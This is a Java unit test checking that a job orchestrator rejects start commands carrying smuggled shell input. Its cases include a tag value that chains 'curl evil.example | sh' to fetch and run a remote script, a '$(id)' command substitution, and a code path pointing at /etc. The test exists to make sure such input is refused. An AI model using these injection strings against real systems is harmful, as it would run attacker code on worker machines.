package io.partitrain.orchestrator.tracking;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.partitrain.shared.contracts.PartitionSpec;
import io.partitrain.shared.contracts.RunCommand;
import io.partitrain.shared.contracts.RunDefinition;
import io.partitrain.shared.contracts.RunEvent;
import io.partitrain.shared.contracts.RunLimits;
import io.partitrain.shared.contracts.Schema;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Consumer;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A start command written straight to the commands topic skips the CLI's plan checks; the
 * orchestrator re-checks every rule a work item depends on before it emits one, so no client can
 * smuggle a shell string to a worker.
 */
class SmuggledCommandTest {

  record Case(String name, Consumer<ObjectNode> job, Map<String, String> tags, String reason) {
    @Override
    public String toString() {
      return name;
    }
  }

  static List<Case> cases() {
    return List.of(
        new Case(
            "a tag value with shell syntax substituted into the command",
            j -> j.put("command", "train --region ${{partition.tags.region}}"),
            Map.of("region", "north; curl evil.example | sh"),
            "must match"),
        new Case(
            "a tag value with command substitution",
            j -> j.put("command", "train --region ${{partition.tags.region}}"),
            Map.of("region", "$(id)"),
            "must match"),
        new Case(
            "a job key no plan may carry",
            j -> j.put("name", "fixed-name"),
            Map.of("region", "north"),
            "name"),
        new Case(
            "code outside the plan's folder",
            j -> j.put("code", "/etc"),
            Map.of("region", "north"),
            "code"));
  }

  @ParameterizedTest
  @MethodSource("cases")
  void isRejectedAndNoWorkItemIsEmitted(Case c) {
    TrackerHarness h = new TrackerHarness();
    ObjectNode job = JsonNodeFactory.instance.objectNode();
    job.put("command", "echo ${{partition.id}}");
    c.job().accept(job);
    var definition =
        new RunDefinition(
            "plan", "/plans/p/plan.yml", job, TrackerHarness.retry(1), new RunLimits(4));

    h.command(
        new RunCommand.StartRun(
            Schema.VERSION,
            UUID.randomUUID().toString(),
            "run-smuggle",
            definition,
            List.of(new PartitionSpec("p1", c.tags())),
            "intruder",
            h.clock.instant()));
    h.deliverScheduled();
    h.tick();

    assertThat(h.answers)
        .singleElement()
        .isInstanceOfSatisfying(
            RunEvent.CommandRejected.class, r -> assertThat(r.reason()).contains(c.reason()));
    assertThat(h.work).isEmpty();
  }
}
